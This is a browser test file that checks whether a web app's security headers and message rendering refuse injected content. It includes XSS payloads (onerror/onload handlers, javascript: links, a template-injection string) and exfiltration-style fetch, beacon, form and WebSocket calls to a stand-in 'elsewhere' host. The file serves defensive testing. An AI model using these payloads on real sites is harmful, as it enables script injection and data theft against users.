// What the page's headers forbid is forbidden in the browser too: whatever got into the page by a
// mistake of ours runs nothing, loads nothing from elsewhere and tells nobody; and no other page can
// frame, read or steer ours.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, test } from 'node:test';
import { serve } from '../support/server.mjs';
import { openBrowser, slowDown, Visitor, WAIT_MS } from './page.mjs';

const server = await serve({ after });
const browser = await openBrowser({ after });

/** Somebody else's site, on another host; counts who comes. */
const asked = [];
const stranger = createServer((request, response) => {
    asked.push(request.url);
    const page = pages[request.url];
    response.writeHead(page ? 200 : 404, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    response.end(page ?? '');
}).listen(0, 'localhost');
await once(stranger, 'listening');
after(() => stranger.close());
const elsewhere = `http://localhost:${stranger.address().port}`;
const pages = {
    '/frames': `<iframe id="f" src="${server.url}/"></iframe><object id="o" data="${server.url}/"></object>`,
    '/opens': `<a id="a" href="${server.url}/" target="_blank" rel="opener">open</a>`,
    '/reads': '<p>reads</p>',
};

async function newPage(t) {
    const context = await browser.newContext();
    context.setDefaultTimeout(WAIT_MS);
    t.after(() => context.close());
    const page = await context.newPage();
    await slowDown(page);
    return page;
}

/** A page of ours in which `inject` has run; says what the policy refused, and what happened. */
async function injected(t, inject, argument) {
    const page = await newPage(t);
    await page.addInitScript(() => {
        window.refused = [];
        document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
    });
    await page.goto(server.url);
    await page.evaluate(inject, argument);
    return page;
}

async function expectRefused(page, directive) {
    await page.waitForFunction((name) => window.refused.includes(name), directive, { timeout: WAIT_MS })
        .catch(async () => assert.fail(`${directive} was not refused, only ${await page.evaluate(() => window.refused.join())}`));
}

const html = (text) => `<div id="evil">${text}</div>`;
const put = (text) => document.body.insertAdjacentHTML('beforeend', text);
const run = ({ text, src }) => {
    const script = document.createElement('script');
    if (src)
        script.src = src;
    script.textContent = text ?? '';
    document.body.append(script);
};

const TABLE = [
    ['an inline script', run, { text: 'window.ran = true' }, 'script-src-elem'],
    ['a script from elsewhere', run, { src: `${elsewhere}/evil.js` }, 'script-src-elem'],
    ['a script as data', run, { src: 'data:text/javascript,window.ran=true' }, 'script-src-elem'],
    ['an event handler', put, html('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="window.ran=true" onload="window.ran=true">'), 'script-src-attr'],
    ['a link that is a script', (text) => { document.body.insertAdjacentHTML('beforeend', text); document.querySelector('#evil a').click(); },
        html('<a href="javascript:window.ran=true">x</a>'), 'script-src-elem'],
    ['a picture from elsewhere', put, html(`<img src="${elsewhere}/pixel.png">`), 'img-src'],
    ['a frame', put, html(`<iframe src="${elsewhere}/frames"></iframe>`), 'frame-src'],
    ['a frame of our own', put, html('<iframe src="/"></iframe>'), 'frame-src'],
    ['an object', put, html(`<object data="${elsewhere}/x.swf"></object>`), 'object-src'],
    ['a sound from elsewhere', put, html(`<audio src="${elsewhere}/x.mp3" autoplay></audio>`), 'media-src'],
    ['a style sheet from elsewhere', put, html(`<link rel="stylesheet" href="${elsewhere}/x.css">`), 'style-src-elem'],
    ['a style of its own', put, html('<style>body { display: none }</style>'), 'style-src-elem'],
    ['a style attribute', put, html('<p style="position: fixed">x</p>'), 'style-src-attr'],
    ['a base for all addresses', put, html(`<base href="${elsewhere}/">`), 'base-uri'],
    ['a form to elsewhere', (text) => { document.body.insertAdjacentHTML('beforeend', text); document.querySelector('#evil form').submit(); },
        html(`<form action="${elsewhere}/take" method="post"><input name="a" value="b"></form>`), 'form-action'],
    ['a request to elsewhere', (url) => { fetch(url).catch(() => {}); }, `${elsewhere}/tell`, 'connect-src'],
    ['a beacon to elsewhere', (url) => { navigator.sendBeacon(url, 'x'); }, `${elsewhere}/tell`, 'connect-src'],
    ['a socket to elsewhere', (url) => { new WebSocket(url).onerror = () => {}; }, elsewhere.replace('http', 'ws'), 'connect-src'],
    ['a worker from text', () => { try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { /* that is fine too */ } }, undefined, 'worker-src'],
    ['words that are run', () => setTimeout('window.ran = true', 0), undefined, 'script-src'],
];

for (const [what, inject, argument, directive] of TABLE)
    test(`refused in our page: ${what}`, async (t) => {
        const before = asked.length;
        const page = await injected(t, inject, argument);
        await expectRefused(page, directive);
        assert.equal(await page.evaluate(() => window.ran), undefined, 'nothing ran');
        assert.deepEqual(asked.slice(before), [], 'nobody else heard of it');
    });

test('what is data is not run as a script, though it is ours', async (t) => {
    const page = await injected(t, () => {});
    for (const src of ['/api/v1/openapi.json', '/.well-known/jwks.json', '/healthz']) {
        const said = page.waitForEvent('console', (message) => /MIME type/.test(message.text()));
        await page.evaluate(run, { src });
        await said;
    }
});

test('no page frames ours, not by an object either', async (t) => {
    const page = await newPage(t);
    const said = page.waitForEvent('console', (message) => /frame-ancestors|refused to/i.test(message.text()));
    await page.goto(`${elsewhere}/frames`);
    await said;
    await page.waitForLoadState('networkidle');
    for (const frame of page.frames().slice(1))
        assert.doesNotMatch(await frame.content().catch(() => ''), /data-testid|id="root"|id="app"/, frame.url());
});

test('who opens our page does not hold it, and our page does not hold them', async (t) => {
    const page = await newPage(t);
    await page.goto(`${elsewhere}/opens`);
    const [ours] = await Promise.all([page.context().waitForEvent('page'), page.click('#a')]);
    await ours.waitForLoadState();
    assert.equal(new URL(ours.url()).host, new URL(server.url).host);
    assert.equal(await ours.evaluate(() => window.opener), null);
});

test('other sites can read none of our answers', async (t) => {
    const page = await newPage(t);
    await page.goto(`${elsewhere}/reads`);
    for (const path of ['/', '/healthz', '/api/v1/openapi.json', '/api/v1/me', '/.well-known/jwks.json'])
        for (const mode of ['cors', 'no-cors'])
            assert.equal(await page.evaluate(([url, how]) => fetch(url, { mode: how }).then(() => 'read', () => 'refused'), [server.url + path, mode]),
                'refused', `${path}, ${mode}`);
    const socket = (url) => new Promise((done) => {
        const wire = new WebSocket(url);
        wire.onopen = () => done('open');
        wire.onerror = () => done('refused');
    });
    assert.equal(await page.evaluate(socket, `${server.url.replace('http', 'ws')}/api/v1/ws`), 'refused');
});

test('words of a message are never anything but words', async (t) => {
    const visitor = await Visitor.open(browser, server);
    t.after(() => visitor.leave(t));
    await visitor.signUp();
    await visitor.openGroup('Words', []);
    const evil = ['<script>window.ran = true</script>', '<img src=x onerror="window.ran = true">', 'javascript:window.ran=true',
        '[x](javascript:window.ran=true)', '<a href="javascript:window.ran=true">x</a>', '"><svg/onload=window.ran=true>', '{{constructor.constructor("window.ran=true")()}}'];
    for (const words of evil)
        await visitor.say(words);
    await visitor.sees('constructor.constructor');
    const links = await visitor.page.$$eval('a[href]', (all) => all.map((one) => one.protocol));
    assert.ok(links.every((protocol) => protocol === 'http:' || protocol === 'https:'), links.join());
    assert.equal(await visitor.page.evaluate(() => window.ran), undefined);
    assert.equal(await visitor.page.evaluate(() => document.querySelectorAll('script:not([src]), img[src="x"], svg[onload]').length), 0);
    visitor.assertNoFaults();
});
